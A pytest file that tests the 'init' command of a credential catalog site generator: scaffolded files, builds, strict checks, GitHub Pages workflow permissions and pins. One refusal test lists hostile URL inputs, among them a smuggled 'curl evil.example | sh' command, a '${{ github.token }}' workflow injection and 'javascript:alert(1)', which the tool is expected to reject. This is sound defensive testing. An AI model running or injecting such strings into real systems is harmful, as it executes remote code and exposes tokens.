"""`init DIR [--from URL]` starts a new catalog repository: content that checks and builds, a .gitignore,
and a GitHub Pages workflow that installs this version of catalog, passes zizmor with the project's own
pins and runs commands that work on that content."""

from __future__ import annotations

import json
import shlex
import shutil
import string
import subprocess
from pathlib import Path

import pytest
import yaml
from test_checkers import zizmor_path

from catalog import __version__

from conftest import ROOT, missing_tool

FILES = [
    "content/site.yml",
    "content/credentials/your-first-credential.md",
    "content/stacks/your-first-stack.md",
    "content/pages/how-to-earn-a-micro-credential.md",
    ".gitignore",
    ".github/workflows/pages.yml",
]


def written(folder: Path) -> list[str]:
    return sorted(path.relative_to(folder).as_posix() for path in folder.rglob("*") if path.is_file())


# A new catalog that checks and builds


def test_init_then_build_from_a_sibling_folder_works(cli, tmp_path: Path, monkeypatch) -> None:
    """The README's commands: `init ../new-catalog`, then a build of its content into its dist/."""
    (tmp_path / "catalog").mkdir()
    monkeypatch.chdir(tmp_path / "catalog")
    run = cli("init", "../new-catalog")
    assert run.code == 0, run.err
    assert run.err == ""
    assert run.out.splitlines() == [
        "started a catalog in ../new-catalog:",
        *(f"  {path}" for path in FILES),
        "next: replace the example texts, which `check --content ../new-catalog/content --strict` lists;"
        " then push to GitHub and choose Settings > Pages > Source: GitHub Actions",
    ]
    assert written(tmp_path / "new-catalog") == sorted(FILES)
    build = cli("build", "--content", "../new-catalog/content", "--out", "../new-catalog/dist")
    assert build.code == 0, build.err
    dist = tmp_path / "new-catalog/dist"
    for page in ("index.html", "stacks/your-first-stack/index.html", "pages/how-to-earn-a-micro-credential/index.html"):
        assert (dist / page).is_file()
    assert (dist / "credentials/your-first-credential/your-first-credential.pdf").read_bytes().startswith(b"%PDF-")
    assert [c["slug"] for c in json.loads((dist / "catalog.json").read_text())["credentials"]] == [
        "your-first-credential"
    ]
    # Nothing is left beside the new folder.
    assert sorted(path.name for path in tmp_path.iterdir()) == ["catalog", "new-catalog"]


def test_init_content_passes_check_and_fails_strict_until_its_examples_are_replaced(cli, tmp_path: Path) -> None:
    assert cli("init", tmp_path / "new").code == 0
    content = tmp_path / "new/content"
    check = cli("check", "--content", content)
    assert check.code == 0
    assert check.err.splitlines()[-1] == "ok: 1 credentials, 1 stacks, 1 pages"
    assert all(": warning: " in line for line in check.err.splitlines()[:-1])
    strict = cli("check", "--content", content, "--strict")
    assert strict.code == 1
    lines = [line.removeprefix(f"{content}/") for line in strict.err.splitlines()]
    still = "is still the example text that `new` or `init` wrote (replace it with what is true of"
    assert [line for line in lines if line.startswith(("site.yml", "stacks/"))] == [
        f"site.yml:3: 'title' {still} this catalog)",
        f"site.yml:4: 'description' {still} this catalog)",
        "site.yml:5: the organisation has no url or email, which Open Badges 2.0 requires of an issuer"
        " (add url:, email: to organisation in site.yml"
        " (https://www.imsglobal.org/sites/default/files/Badges/OBv2p0Final/index.html#Profile))",
        f"site.yml:6: 'organisation.name' {still} this catalog)",
        f"stacks/your-first-stack.md:4: 'title' {still} this stack)",
        f"stacks/your-first-stack.md:5: 'summary' {still} this stack)",
        "stacks/your-first-stack.md:11: this line is still the example text that `new` or `init` wrote"
        " (replace it with your own text about this stack)",
    ]
    assert lines[-1] == f"17 error(s) in {content}"


def test_init_site_yml_is_commented_and_names_every_setting(cli, tmp_path: Path) -> None:
    assert cli("init", tmp_path / "new").code == 0
    text = (tmp_path / "new/content/site.yml").read_text()
    assert text.startswith("# The catalog's settings.")
    assert "title: Your catalog's title  # The catalog's name.\n" in text
    for setting in ("url", "language", "currency", "licence", "theme", "pdf", "allow_html"):
        assert f"\n# {setting}:" in text  # optional: a commented example
    assert yaml.safe_load(text)["scales"] == {"passing": ["Passing", "Not yet"]}


# Refusals


def test_init_refuses_a_folder_that_is_not_empty_and_leaves_it_as_it_was(cli, tmp_path: Path) -> None:
    folder = tmp_path / "mine"
    folder.mkdir()
    (folder / "notes.txt").write_text("my notes")
    run = cli("init", folder)
    assert (run.code, run.out) == (1, "")
    assert run.err == f"catalog init: {folder} is not empty; init starts a catalog in a new or empty folder\n"
    assert written(folder) == ["notes.txt"]
    (tmp_path / "file").write_text("x")
    run = cli("init", tmp_path / "file")
    assert (run.code, run.err) == (1, f"catalog init: {tmp_path / 'file'} exists and is not a folder\n")
    assert sorted(path.name for path in tmp_path.iterdir()) == ["file", "mine"]


def test_init_fills_an_empty_folder_even_the_working_one(cli, tmp_path: Path, monkeypatch) -> None:
    (tmp_path / "empty").mkdir()
    monkeypatch.chdir(tmp_path / "empty")
    assert cli("init", ".").code == 0
    assert written(tmp_path / "empty") == sorted(FILES)
    assert [path.name for path in tmp_path.iterdir()] == ["empty"]  # no scratch folder left beside it
    assert cli("check", "--content", "content").code == 0


@pytest.mark.parametrize(
    "url",
    [
        "https://github.com/org/catalog.git'; curl evil.example | sh; '",
        "https://github.com/${{ github.token }}/catalog",
        "https://github.com/org/catalog #comment",
        "javascript:alert(1)",
        "github.com/org/catalog",
    ],
)
def test_init_from_refuses_what_a_workflow_or_a_shell_would_act_on(cli, tmp_path: Path, url: str, capsys) -> None:
    with pytest.raises(SystemExit) as exit_info:
        cli("init", tmp_path / "new", "--from", url)
    assert exit_info.value.code == 2
    assert "is not a git URL like https://github.com/org/catalog.git" in capsys.readouterr().err
    assert not (tmp_path / "new").exists()


# The workflow


def install_step(folder: Path) -> str:
    workflow = yaml.safe_load((folder / ".github/workflows/pages.yml").read_text())
    (step,) = [step for step in workflow["jobs"]["build"]["steps"] if step.get("name") == "Install catalog"]
    return str(step["run"])


def test_the_workflow_installs_this_version_from_the_index_or_from_git(cli, tmp_path: Path) -> None:
    assert cli("init", tmp_path / "index").code == 0
    assert install_step(tmp_path / "index") == f"python -m pip install catalog=={__version__}"
    assert cli("init", tmp_path / "git", "--from", "https://github.com/org/catalog.git").code == 0
    assert shlex.split(install_step(tmp_path / "git")) == [
        *["python", "-m", "pip", "install"],
        f"catalog @ git+https://github.com/org/catalog.git@v{__version__}",
    ]
    assert cli("init", tmp_path / "ref", "--from", "git+ssh://git@github.com/org/catalog.git@0f1e2d3c").code == 0
    assert (
        shlex.split(install_step(tmp_path / "ref"))[-1] == "catalog @ git+ssh://git@github.com/org/catalog.git@0f1e2d3c"
    )


def test_the_workflow_runs_catalog_commands_that_work_on_the_new_content(cli, tmp_path: Path, monkeypatch) -> None:
    """Each `catalog` step run as the workflow runs it: from the top of the new repository, with the
    address configure-pages gives passed through the step's environment."""
    assert cli("init", tmp_path / "new").code == 0
    workflow = yaml.safe_load((tmp_path / "new/.github/workflows/pages.yml").read_text())
    build, deploy = workflow["jobs"]["build"], workflow["jobs"]["deploy"]
    assert workflow["permissions"] == {}
    assert build["permissions"] == {"contents": "read", "pages": "read"}
    assert deploy["permissions"] == {"pages": "write", "id-token": "write"}
    assert deploy["needs"] == "build"
    actions = [step["uses"].split("@")[0] for step in build["steps"] if "uses" in step]
    assert actions[-1] == "actions/upload-pages-artifact"
    assert build["steps"][-1]["with"]["path"] == "dist"
    commands = [step for step in build["steps"] if str(step.get("run", "")).startswith("catalog ")]
    assert [step["run"].split()[:2] for step in commands] == [["catalog", "check"], ["catalog", "build"]]
    outputs = {"${{ steps.pages.outputs.base_url }}": "https://org.github.io/new"}
    monkeypatch.chdir(tmp_path / "new")
    for step in commands:
        environment = {name: outputs[value] for name, value in step.get("env", {}).items()}
        words = [string.Template(word).substitute(environment) for word in shlex.split(step["run"])]
        run = cli(*words[1:])
        assert run.code == 0 and "::error" not in run.err, run.err
    assert '<link rel="canonical" href="https://org.github.io/new/"' in (tmp_path / "new/dist/index.html").read_text()


def test_the_workflow_passes_zizmor_with_the_projects_own_pins(cli, tmp_path: Path) -> None:
    assert cli("init", tmp_path / "index").code == 0
    assert cli("init", tmp_path / "git", "--from", "https://github.com/org/catalog.git").code == 0
    workflows = [tmp_path / name / ".github/workflows/pages.yml" for name in ("index", "git")]
    command = [zizmor_path(), "--offline", "--no-config", "--persona", "pedantic", "--strict-collection"]
    result = subprocess.run([*command, "--format", "json", *map(str, workflows)], capture_output=True, text=True)
    assert result.returncode == 0, result.stdout + result.stderr
    assert json.loads(result.stdout) == []
    # Every action it uses is pinned to the same commit as in the project's own workflow.
    ours = (ROOT / ".github/workflows/pages.yml").read_text()
    uses = [line.split("uses: ", 1)[1] for line in workflows[0].read_text().splitlines() if "uses: " in line]
    assert len(uses) == 13  # six for Pages, six for the optional PDF shards, one for Credential Engine
    assert all(f"uses: {pin}\n" in ours for pin in uses)


# What git keeps


def test_git_keeps_the_new_files_and_ignores_the_build(cli, tmp_path: Path) -> None:
    git = shutil.which("git")
    if git is None:
        missing_tool("git is not installed")
    assert cli("init", tmp_path / "new").code == 0
    assert cli("build", "--content", tmp_path / "new/content", "--out", tmp_path / "new/dist", "--no-pdf").code == 0
    assert (tmp_path / "new/.catalog-cache").is_dir()
    subprocess.run([git, "init", "-q", str(tmp_path / "new")], check=True)
    added = subprocess.run(
        [git, "-C", str(tmp_path / "new"), "add", "--dry-run", "."], capture_output=True, text=True, check=True
    )
    assert sorted(line.removeprefix("add '").removesuffix("'") for line in added.stdout.splitlines()) == sorted(FILES)
